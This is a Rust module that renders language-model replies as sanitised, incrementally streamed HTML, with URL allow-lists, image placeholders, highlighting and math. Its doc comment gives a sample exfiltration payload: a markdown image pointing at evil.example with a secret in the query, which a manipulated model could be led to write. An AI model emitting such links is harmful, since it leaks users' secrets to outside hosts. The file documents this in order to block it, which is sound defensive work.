//! Markdown rendering of model output: CommonMark + GFM (tables, strikethrough, task lists) with
//! pulldown-cmark, sanitised, and incremental while a reply streams.
//!
//! - [`render`] turns a whole text into HTML; [`Incremental`] does the same for a streaming reply,
//!   re-parsing only its unfinished tail ([`Incremental::html`] always equals [`render`] of
//!   [`Incremental::source`]).
//! - **Sanitising.** Raw HTML in the text (block or inline) is shown as text, never interpreted.
//!   Links are only links for `http:`, `https:` and `mailto:` URLs ([`link_url`]), images only for
//!   `http:`/`https:` and `data:` PNG/JPEG/GIF/WebP URLs ([`image_url`]); anything else (e.g.
//!   `javascript:`, `data:text/html`, relative URLs) leaves the link text as plain text. Links get
//!   `rel="noopener noreferrer nofollow" target="_blank"`, `data:` images are inline `<img>` with
//!   `loading="lazy" referrerpolicy="no-referrer"`.
//! - **Remote images are never fetched by rendering them.** A model can be talked into writing
//!   `![](https://evil.example/?d=<secret>)`; an `<img>` would send the secret the moment the
//!   reply is on screen. So an `http(s)` image is a placeholder naming the host the browser would
//!   ask ([`image_host`]) and the alt text: `<a class="lmck-remote-image" href="…"
//!   rel="noopener noreferrer nofollow" target="_blank" referrerpolicy="no-referrer"><span
//!   class="lmck-remote-image-host">host</span><span class="lmck-remote-image-alt">alt</span></a>`.
//!   *Decision:* a click opens the image in a new tab rather than loading it in place. The chat
//!   page's CSP (`img-src 'self' data: blob:`) would block it in place anyway, and a new tab
//!   means the request happens only on the user's gesture, after they saw the host, without a
//!   referrer and without the page's cookies being involved. Inside a link the placeholder is a
//!   `<span>` with the same classes (links do not nest; the outer link is what a click follows).
//! - **Markup the UI styles or wires up** (all classes start with `lmck-` except `language-*`):
//!   a code block is `<div class="lmck-codeblock"><button class="lmck-copy" type="button"
//!   aria-label="Copy code">Copy</button><pre><code class="lmck-code language-rust"
//!   data-lang="rust">…</code></pre></div>` (no `language-`/`data-lang` without a language); a
//!   table is wrapped in `<div class="lmck-table">` (for horizontal scrolling) and its aligned
//!   cells carry `class="lmck-align-left|center|right"` (no `style` attribute anywhere, so the
//!   page's `style-src 'self'` holds); raw HTML blocks
//!   are `<pre class="lmck-raw-html">` with the escaped source; task list items carry a disabled
//!   checkbox named "Done" or "To do". An unclosed code fence (a reply still streaming) renders as a code block. Bare
//!   `http(s)://` URLs in text become links too (the GFM autolink extension).
//! - **Syntax highlighting** ([`highlight`]): once the lazily loaded highlighter is installed, the
//!   code of a *closed* fenced block with a language it knows is its checked output (escaped
//!   text and `<span class="hljs-…">` only); otherwise the code is plain escaped text.
//! - **Math** ([`math`]): `$…$`, `$$…$$`, `\(…\)` and `\[…\]` become MathML (`<span
//!   class="lmck-math">`), from a converter loaded lazily; LaTeX that does not parse shows as its
//!   source in `<code class="lmck-math-error">`.
//! - Not rendered: footnotes, heading attributes, smart punctuation (shown as typed).
//!
//! **In the UI** (streaming bubble): join the deltas received during an animation frame, call
//! [`Incremental::push`] once, then walk [`Incremental::blocks`]: keep one element per
//! [`Block::key`] and set its `innerHTML` only when [`Block::rev`] differs from the one last
//! written (usually only the last block). Blocks before [`Incremental::finished_blocks`] are final
//! (a later link reference definition may still change one, with a new `rev`). For a finished
//! message, [`render`] once. The copy button of a code block copies the `textContent` of the
//! `<code>` after it.

mod autolink;
pub mod engine;
mod fence;
pub mod highlight;
#[cfg(target_arch = "wasm32")]
mod hljs;
mod incremental;
pub mod math;
mod sanitize;
mod table;
#[cfg(test)]
mod tests;
#[cfg(test)]
mod tests_edge;
#[cfg(test)]
mod tests_highlight;
#[cfg(test)]
mod tests_images;
#[cfg(test)]
mod tests_incremental;
#[cfg(test)]
mod tests_math;

use std::collections::HashMap;

use pulldown_cmark::{BrokenLink, CodeBlockKind, CowStr, Event, Options, Parser, Tag};
use unicase::UniCase;

pub use incremental::{Block, Incremental};
pub use sanitize::{image_host, image_url, link_url};

use sanitize::{FenceQueue, Sanitize};

/// Link reference definitions by label, case-folded (as CommonMark matches labels):
/// destination and title (first definition wins). The parser folds the labels ([`fold_label`]),
/// so the Unicode case-folding tables stay in the parser's wasm chunk and the rest of the
/// renderer keys a map by plain strings.
pub(crate) type Defs = HashMap<String, (String, String)>;

/// A parse of (part of) a text, cut into top-level blocks.
pub(crate) struct Parsed {
    /// `(offset of the start of the block's first line, HTML)` of each top-level block.
    pub blocks: Vec<(usize, String)>,
    /// `(case-folded label, offset of the definition, destination, title)` of the link reference
    /// definitions found in the text.
    pub defs: Vec<(String, usize, String, String)>,
}

/// The extensions enabled: GFM tables, strikethrough and task lists, and math ([`math`]).
fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_MATH
}

/// Parses `text` and renders each top-level block on its own. Reference links whose label is not
/// defined in `text` are resolved from `known` (the definitions earlier in the document).
pub(crate) fn parse(text: &str, known: &Defs) -> Parsed {
    parse_blocks(text, known, true)
}

/// Like [`parse`], for a piece of a text that the caller only compares or splices (the fast paths
/// of [`fence`] and [`table`]): code blocks in it are never highlighted (a closed fence makes those
/// callers fall back to [`parse`] anyway).
pub(crate) fn parse_fragment(text: &str, known: &Defs) -> Parsed {
    parse_blocks(text, known, false)
}

/// Parses with the parser when it is here ([`engine`]); else the text is shown as itself.
fn parse_blocks(text: &str, known: &Defs, highlight: bool) -> Parsed {
    match engine::parser() {
        Some(parse) => parse(text, known, highlight),
        None => {
            engine::want();
            engine::plain(text)
        }
    }
}

/// A link label as [`Defs`] keys it: Unicode case-folded (`[Foo]` matches `[foo]`, `[ꙭ]` matches
/// `[Ꙭ]`).
fn fold_label(label: &str) -> String {
    UniCase::new(label).to_folded_case()
}

/// The parser itself: the part of the renderer that is a wasm chunk of its own ([`engine`]).
pub(crate) fn parse_now(text: &str, known: &Defs, highlight: bool) -> Parsed {
    // `\(…\)` and `\[…\]` as `$` math, in a text of the same length (offsets stay true).
    let rewritten = math::delimiters(text);
    let text = rewritten.as_deref().unwrap_or(text);
    let lookup = |link: BrokenLink<'_>| {
        known
            .get(&fold_label(&link.reference))
            .map(|(url, title)| (CowStr::from(url.clone()), CowStr::from(title.clone())))
    };
    let callback = (!known.is_empty()).then_some(lookup);
    let parser = Parser::new_with_broken_link_callback(text, options(), callback);
    let defs = parser
        .reference_definitions()
        .iter()
        .map(|(label, def)| {
            let title = def.title.as_deref().unwrap_or("").to_owned();
            (
                fold_label(label),
                def.span.start,
                def.dest.to_string(),
                title,
            )
        })
        .collect();

    // Whether each fenced code block is closed, noted as the parser reaches it (the sanitiser
    // reads it when it renders the block; only closed ones are highlighted).
    let fences = FenceQueue::default();
    let mut events = parser.into_offset_iter().inspect(|(event, range)| {
        if let Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(_))) = event {
            let closed = highlight && highlight::fence_closed(&text[range.clone()]);
            fences.borrow_mut().push_back(closed);
        }
    });
    let mut blocks = Vec::new();
    while let Some((first, range)) = events.next() {
        let depth = usize::from(matches!(first, Event::Start(_)));
        let rest = TopLevelBlock {
            events: &mut events,
            depth,
        };
        let mut html = String::new();
        pulldown_cmark::html::push_html(
            &mut html,
            Sanitize::new(std::iter::once(first).chain(rest), fences.clone()),
        );
        blocks.push((line_start(text, range.start), html));
    }
    Parsed { blocks, defs }
}

/// The rest of a top-level block's events (the first one already taken).
struct TopLevelBlock<'e, I> {
    events: &'e mut I,
    /// Open tags; 0 once the block is complete.
    depth: usize,
}

impl<'a, I: Iterator<Item = (Event<'a>, std::ops::Range<usize>)>> Iterator
    for TopLevelBlock<'_, I>
{
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        if self.depth == 0 {
            return None;
        }
        let (event, _) = self.events.next()?;
        match event {
            Event::Start(_) => self.depth += 1,
            Event::End(_) => self.depth -= 1,
            _ => {}
        }
        Some(event)
    }
}

/// The offset of the start of the line holding `offset`.
pub(crate) fn line_start(text: &str, offset: usize) -> usize {
    text[..offset].rfind(['\n', '\r']).map_or(0, |i| i + 1)
}

/// Changes when HTML rendered before may now render differently: the parser ([`engine`]), the
/// code highlighter ([`highlight`]) or the math converter ([`math`]) arrived.
pub fn generation() -> u64 {
    engine::generation() + highlight::generation() + math::generation()
}

/// Renders `markdown` to sanitised HTML (see the module documentation for what is kept).
pub fn render(markdown: &str) -> String {
    parse(markdown, &Defs::new())
        .blocks
        .into_iter()
        .map(|(_, html)| html)
        .collect()
}

/// Keeps the whole renderer in the wasm for `frontend/examples/markdown_size.sh` (feature
/// `markdown-size-probe`).
#[cfg(feature = "markdown-size-probe")]
#[wasm_bindgen::prelude::wasm_bindgen]
pub fn lmck_markdown_probe(markdown: &str) -> String {
    let mut incremental = Incremental::new();
    incremental.push(markdown);
    incremental.html() + &render(markdown) + &escape(markdown)
}

/// Escapes text for HTML body text and attribute values (`&`, `<`, `>`, `"`, `'`).
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    sanitize::escape_into(&mut out, text);
    out
}
